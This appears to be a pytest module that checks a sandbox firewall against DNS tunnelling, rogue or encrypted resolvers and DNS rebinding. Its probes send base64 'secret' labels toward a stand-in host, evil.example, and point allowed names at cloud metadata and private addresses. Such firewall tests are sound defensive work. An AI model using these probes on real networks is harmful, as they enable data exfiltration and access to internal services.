"""Attacks through resolving: tunnels, other resolvers, names that move (14-17, 24-26)."""

from __future__ import annotations

import time

import pytest

from tests.firewall.common import follow, nothing_left, outcome, refused, request, with_allowed
from tests.firewall.conftest import POLICY
from tests.firewall.lab.box import Box
from tests.firewall.lab.network import (
    EVIL,
    EVIL6,
    LAN,
    METADATA,
    RESOLVER,
    RESOLVER6,
    SECOND,
    SHARED,
    Lab,
)

pytestmark = pytest.mark.real
attack = pytest.mark.attack
TYPES = {"A": 1, "TXT": 16, "NULL": 10, "HTTPS": 65, "SVCB": 64, "MX": 15, "SRV": 33, "AAAA": 28, "ANY": 255}


@attack(14, "data in a name asked of the default resolver, any type", "does not exist; no trace upstream")
def test_dns_tunnel(box: Box, lab: Lab) -> None:
    since = lab.now()
    name = "c2VjcmV0.evil.example"
    asked = [("dns", {"name": name, "server": "127.0.0.1", "kind": kind}) for kind in TYPES.values()]
    for answer in box.probe(*asked):
        assert (answer["code"], answer["answers"]) == (3, 0)
    nothing_left(box, since)


@attack(14, "other record types of an allowed name", "no data, no trace upstream; in particular no ECH key")
def test_other_types(box: Box, lab: Lab) -> None:
    since = lab.now()
    kinds = [kind for name, kind in TYPES.items() if name not in ("A", "ANY")]
    asked = [("dns", {"name": "allowed.example", "server": "127.0.0.1", "kind": kind}) for kind in kinds]
    for answer in box.probe(*asked):
        assert (answer["code"], answer["answers"]) == (0, 0)
    nothing_left(box, since)


@attack(
    15, "another resolver, over UDP, TCP, IPv6, and the upstream itself", "answered here or refused; no trace"
)
def test_other_resolver(box: Box, lab: Lab) -> None:
    since = lab.now()
    name = "c2VjcmV0.evil.example"
    servers = (EVIL, EVIL6, RESOLVER, RESOLVER6)
    asked = [("dns", {"name": name, "server": s, "over": over}) for s in servers for over in ("udp", "tcp")]
    for answer in box.probe(*asked):
        assert answer.get("code") == 3 or refused(answer)
    nothing_left(box, since)


@attack(16, "data in labels below an allowed name and a wildcard", "no trace upstream")
def test_tunnel_below(box: Box, lab: Lab) -> None:
    since = lab.now()
    for domain, code in (("allowed.example", 3), ("wild.example", 0)):
        asked = [
            ("dns", {"name": f"c2VjcmV0.{domain}", "server": "127.0.0.1", "kind": kind}) for kind in (1, 16)
        ]
        assert [answer["code"] for answer in box.probe(*asked)] == [code, code]
    nothing_left(box, since)


@attack(
    17,
    "DNS over TLS, DNS over HTTPS by address, on the shared address, and over port 80",
    "denied; nothing left",
)
def test_encrypted_dns(box: Box, lab: Lab) -> None:
    since = lab.now()
    assert box.try_one("tcp", address=EVIL, port=853)["error"] == "ECONNREFUSED"
    for address in (EVIL, SHARED):
        assert not box.try_one("hello", sni="doh.evil.example", address=address).get("answered")
    text = request("doh.evil.example", "/resolve?name=c2VjcmV0.evil.example&type=TXT")
    assert box.try_one("http", address=SHARED, text=text)["data"].startswith("HTTP/1.1 403")
    nothing_left(box, since)


LAST = "Connection: close\r\n"  # else each is waited for, whether more comes
POINTED = {
    "metadata": METADATA[0],
    "lan": LAN,
    "gateway": "",
    "loopback": "127.0.0.1",
    "ten": "10.1.2.3",
    "cgnat": "100.64.1.1",
    "fake": "198.18.0.1",
    "zero": "0.0.0.0",
    "multicast": "224.0.0.251",
    "documentation": "203.0.113.9",
    "metadata6": METADATA[1],
    "loopback6": "::1",
    "link6": "fe80::1",
    "mapped": "::ffff:169.254.169.254",
    "6to4": "2002:a9fe:a9fe::1",
    "nat64": "64:ff9b::a9fe:a9fe",
    "teredo": "2001:0:a9fe:a9fe::1",
}


@attack(
    24,
    "an allowed name pointed at metadata, LAN, gateway, loopback, every private range",
    "502 or reset; the refusal on record with the proxy's uid; nothing but the DNS query left",
)
def test_rebinding(box: Box, lab: Lab) -> None:
    moment = time.time_ns()
    pointed = {f"{what}-{moment}.wild.example": at or box.engine.gateway for what, at in POINTED.items()}
    lab.set_zone({name: [address] for name, address in pointed.items()})
    since = lab.now()
    for answer in box.probe(*(("https", {"name": name}) for name in pointed)):
        assert refused(answer), answer
    for answer in box.probe(
        *(("http", {"address": SHARED, "text": request(name, more=LAST), "seconds": 9}) for name in pointed)
    ):
        assert answer["data"].startswith("HTTP/1.1 502"), answer
    nothing_left(box, since, {("udp", RESOLVER, 53, name) for name in pointed})
    # The kernel itself refuses TCP to some of these before any rule sees it.
    seen = {a for a in pointed.values() if ":" not in a and not a.startswith(("0.", "127.", "224."))}
    assert seen <= {row["dst"] for row in box.rows(layer="l3", verdict="deny", uid=64971)}


@attack(
    25,
    "an allowed name moves to another address during a session",
    "new connections follow it; the old stream lives",
)
def test_rotation(box: Box, lab: Lab) -> None:
    stream = follow(box, 4, "rot.example")
    lab.set_zone({"rot.example": [SECOND]})
    time.sleep(1.5)
    assert box.try_one("https", name="rot.example")["dst"] == SECOND
    assert outcome(stream)["end"] == "still open"


@attack(26, "a process keeps the address it once resolved", "works: the address of a name never changes here")
def test_kept_address(box: Box, lab: Lab) -> None:
    before = {
        name: box.try_one("resolve", name=name)["addresses"] for name in ("allowed.example", "git.example")
    }
    lab.set_zone({"allowed.example": [SECOND]})
    assert (
        box.apply(with_allowed(POLICY, {"name": "aaa.example", "port": 22}, {"name": "later.example"})).code
        == 0
    )
    try:
        after = {name: box.try_one("resolve", name=name)["addresses"] for name in before}
        assert after == before
        assert (
            box.try_one("https", name="allowed.example", address=before["allowed.example"][0])["status"]
            == "200"
        )
        assert box.try_one("tcp", address=before["git.example"][0], port=22)["data"].startswith(
            f"LAB {SECOND} 22"
        )
    finally:
        assert box.apply(POLICY).code == 0
    assert box.try_one("resolve", name="git.example")["addresses"] == before["git.example"]
